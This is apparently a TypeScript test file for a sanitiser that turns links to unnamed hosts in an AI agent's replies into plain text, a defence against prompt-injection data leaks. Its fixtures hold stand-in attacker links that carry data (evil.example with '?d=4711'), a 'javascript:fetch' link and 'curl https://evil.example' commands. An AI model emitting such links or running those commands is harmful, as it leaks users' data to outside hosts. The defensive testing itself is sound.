import { describe, expect, it } from 'vitest';
import { htmlOf } from '../../channels/email/html.ts';
import { hostsNamed, withoutHalfLink, withoutStrangeLinks } from '../../core/agent/links.ts';
import type { TakenTurn } from '../../core/records/threads.ts';
import type { EntryContent, Step } from '../../core/records/types.ts';
import { dice, firstSeed, long } from '../support/seeds.ts';
import { startShopApp } from '../support/shop-app.ts';

const named = new Set(['shop.example', 'xn--mnchen-3ya.de']);
const shown = (text: string) => withoutStrangeLinks(text, () => named);

describe('a link in a reply, to a host that nobody named, is shown as text', () => {
  it.each([
    ['See [the order](https://evil.example/?d=4711).', 'See the order (`https://evil.example/?d=4711`).'],
    ['![logo](https://evil.example/p.png?d=4711)', 'logo (`https://evil.example/p.png?d=4711`)'],
    ['![](https://evil.example/p.png)', '`https://evil.example/p.png`'],
    ['[x](<https://evil.example/a> "title")', 'x (`https://evil.example/a`)'],
    ['<https://evil.example/a|our shop>', 'our shop (`https://evil.example/a`)'],
    ['<https://evil.example/a>', '`https://evil.example/a`'],
    ['Go to https://evil.example/a?b=1, now.', 'Go to `https://evil.example/a?b=1`, now.'],
    ['Go to www.evil.example', 'Go to `www.evil.example`'],
    ['Go to evil.example/?d=4711', 'Go to `evil.example/?d=4711`'],
    ['Ask d4711.evil.example.', 'Ask `d4711.evil.example`.'],
    ['[x](//evil.example/a)', 'x (`//evil.example/a`)'],
    ['[x](https://shop.example@evil.example/a)', 'x (`https://shop.example@evil.example/a`)'],
    ['[x](https://4711.shop.example/a)', 'x (`https://4711.shop.example/a`)'],
    ['[x](https&colon;//evil.example)', 'x (`https&colon;//evil.example`)'],
    ['[x](javascript:fetch)', 'x (`javascript:fetch`)'],
    ['[write](mailto:a@evil.example)', 'write (`mailto:a@evil.example`)'],
    ['[https://evil.example/1](https://evil.example/2)', '`https://evil.example/1` (`https://evil.example/2`)'],
    ['` [x](https://evil.example/a)', '` x (``https://evil.example/a``)'],
    ['Not code: \\`[x](https://evil.example/a)\\`', 'Not code: \\`x (``https://evil.example/a``)\\`'],
    ['a `` b `[x](https://evil.example/a)`', 'a `` b `x (```https://evil.example/a```)`'],
    ['`https://evil.example/a', '` ``https://evil.example/a``'],
    ['\\https://evil.example/a', '\\ `https://evil.example/a`'],
    ['a ` b\n` [x](https://evil.example/a) ` c', 'a ` b\n` x (``https://evil.example/a``) ` c'],
    [
      '<https://shop.example/`> [x](https://evil.example/a) `',
      '<https://shop.example/`> x (``https://evil.example/a``) `',
    ],
    ['```a`b\n[x](https://evil.example/a)\n```', '```a`b\nx (````https://evil.example/a````)\n```'],
    ['- ```\n  code\n  ```\n[x](https://evil.example/a)', '- ```\n  code\n  ```\nx (````https://evil.example/a````)'],
    ['1. ~~~\n   code\n   ~~~\n[x](https://evil.example/a)', '1. ~~~\n   code\n   ~~~\nx (`https://evil.example/a`)'],
    [
      '- a\n  ```\n  code\n[x](https://evil.example/a)\n  ```',
      `- a\n  \`\`\`\n  code\nx (${'`'.repeat(21)}https://evil.example/a${'`'.repeat(21)})\n  \`\`\``,
    ],
    ['<pre>\n```\n</pre>\n\n[x](https://evil.example/a)', '<pre>\n```\n</pre>\n\nx (````https://evil.example/a````)'],
    ['[a]: https://evil.example/a', '[a]: `https://evil.example/a`'],
  ])('%s', (text, expected) => {
    expect(shown(text)).toBe(expected);
  });

  it.each([
    'See [the order](https://shop.example/orders/1 "Order") and https://shop.example/a.',
    '![logo](http://shop.example:8080/logo.png), <https://shop.example|us>, [write](mailto:lisa@shop.example)',
    'https://münchen.de/rathaus',
    'Write to lisa.park.jr@mail.shop.example, at 5 p.m. in the U.S.A., by Node.js 1.2.3',
    '`https://evil.example/a` and\n```\n[x](https://evil.example/a)\n```\n',
    '1. Run this:\n   ```sh\n   curl https://evil.example/a\n   ```\n2. `curl https://evil.example/b`, and `ls`.',
    '~~~\n[x](https://evil.example/a) `\n~~~\nand `a`, too',
    'Ask <@U0LISA> in <#C01> at 9:30, see notes.txt, ORD-1001/2 or 12.5/3; e.g. and/or.',
  ])('and this is left as it is: %s', (text) => {
    expect(shown(text)).toBe(text);
  });

  it('in time, however it is made', () => {
    const texts = ['[', '`', '<a:', '![a](', 'a.', 'https://', '```\n', '~'].map((part) => part.repeat(20_000));
    const begun = performance.now();
    for (const text of texts) withoutHalfLink(shown(text));
    expect(performance.now() - begun).toBeLessThan(5_000);
  });
});

it('no text leaves a link to a host that nobody named, as the parser of our mails reads it', () => {
  const pieces = [
    ...[
      '`',
      '``',
      '```',
      '````',
      '~~~',
      '\n',
      '\n',
      '\n\n',
      '  ',
      '    ',
      '\t',
      '- ',
      '1. ',
      '> ',
      ' ',
      'a',
      'sh',
      '.',
      '#',
    ],
    ...['[x](https://evil.example/a)', 'https://evil.example/b', 'www.evil.example/c', '<https://evil.example/d>'],
    ...['[y]: https://evil.example/e', '[y]', '[', '](', '](https://evil.example/f)', ')', '![', '\\', '|', '*', '_'],
    ...['<b>', '<a href="', '">', '<', '>', '<!--', '-->', '<pre>', '</pre>'],
  ];
  const { roll, pick } = dice(firstSeed, 'links');
  for (let count = 0; count < (long ? 100_000 : 3_000); count += 1) {
    const text = Array.from({ length: 2 + roll(14) }, () => pick(pieces)).join('');
    expect(/href="[^"]*evil/.exec(htmlOf(shown(text))), `${JSON.stringify(text)}, of seed ${firstSeed}`).toBeNull();
  }
}, 120_000);

it('what is shown of a reply in the making goes on as it began', () => {
  const text =
    'See [the order](https://evil.example/?d=1), ![a](https://shop.example/b.png)\nor `https://evil.example` now. ';
  let before = '';
  for (let at = 0; at <= text.length; at += 1) {
    const now = shown(withoutHalfLink(text.slice(0, at)));
    expect(now.startsWith(before)).toBe(true);
    before = now;
  }
  expect(before.trim()).toBe(shown(text).trim());
});

describe('a host is named', () => {
  const said = (author: string, text: string): Step => ({
    n: 0,
    kind: 'input',
    content: { entries: [{ author, text, place: {} } satisfies EntryContent] },
  });
  const call = (id: string, args: string): Step => ({
    n: 1,
    kind: 'model',
    content: {
      text: 'See https://model.example',
      tokens: 1,
      calls: [{ id, name: 'shop__look', arguments: args, decision: { kind: 'sign' } }],
    },
  });
  const result = (id: string, text: string): Step => ({
    n: 2,
    kind: 'tool',
    content: { call: id, status: 'ok', text },
  });
  const background: Step = { n: 0, kind: 'background', content: { text: 'see https://planted.example' } };

  it('by the asker, a tool or the desk; not by others, the model, or a tool that repeats the model', () => {
    const turn = {
      history: [
        { number: 1, state: 'done', steps: [said('U0LISA', 'my site is lisa.example'), said('U0EVE', 'eve.example')] },
      ],
    } as unknown as TakenTurn;
    const steps = [
      said('U0LISA', 'is http://10.0.0.7:8080/x up?'),
      background,
      call('c1', '{"url":"https://repeated.example/?d=1"}'),
      result('c1', 'No such page: https://repeated.example/?d=1. Try https://tool.example/help'),
      call('c2', '{"url":"https:\\/\\/\\u0065scaped.example"}'),
      result('c2', 'No such page: https://escaped.example. Try https://tool.example/help'),
      call('c3', '{"note":4}'),
      result('c3', 'Your note: https://repeated.example/?d=1'),
    ];
    expect(
      [...hostsNamed(turn, 'Help at https://desk.example.', steps)].filter((host) => host !== '').toSorted(),
    ).toEqual(['10.0.0.7', 'desk.example', 'lisa.example', 'tool.example']);
  });
});

it('a reply reaches the thread with the links of the asker, and with no others', async () => {
  const text = 'See [it](https://evil.example/?d=4711) and https://asked.example/a';
  const app = await startShopApp('postgres', () => ({ text }));
  try {
    const reply = await app.ask('is asked.example up?');
    const blocks = JSON.stringify(reply.blocks);
    expect(blocks).toContain('See it (`https://evil.example/?d=4711`) and https://asked.example/a');
  } finally {
    await app.close();
  }
});
